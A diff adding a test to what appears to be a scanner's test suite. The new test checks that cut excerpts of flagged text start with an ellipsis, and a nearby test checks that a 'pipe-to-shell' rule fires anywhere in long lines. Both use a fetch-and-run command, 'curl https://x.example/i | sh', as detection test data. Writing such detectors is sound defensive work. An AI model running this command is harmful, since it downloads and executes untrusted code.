@@ -241,3 +241,10 @@ def test_no_part_of_a_long_line_is_passed_over():
     for at in range(3_000, 9_000, 97):
         line = "x" * at + " curl x.example/i | sh " + "y" * 3_000
         assert "pipe-to-shell" in rules(looked(a_sh=line))
+
+
+def test_an_excerpt_that_is_cut_says_so():
+    command = "curl https://x.example/i | sh"
+    cut = {one.text for one in looked(a_md=f"{'words ' * 20}{command}")}
+    assert {text[0] for text in cut} == {"…"}
+    assert {one.text for one in looked(a_md=command)} == {command}
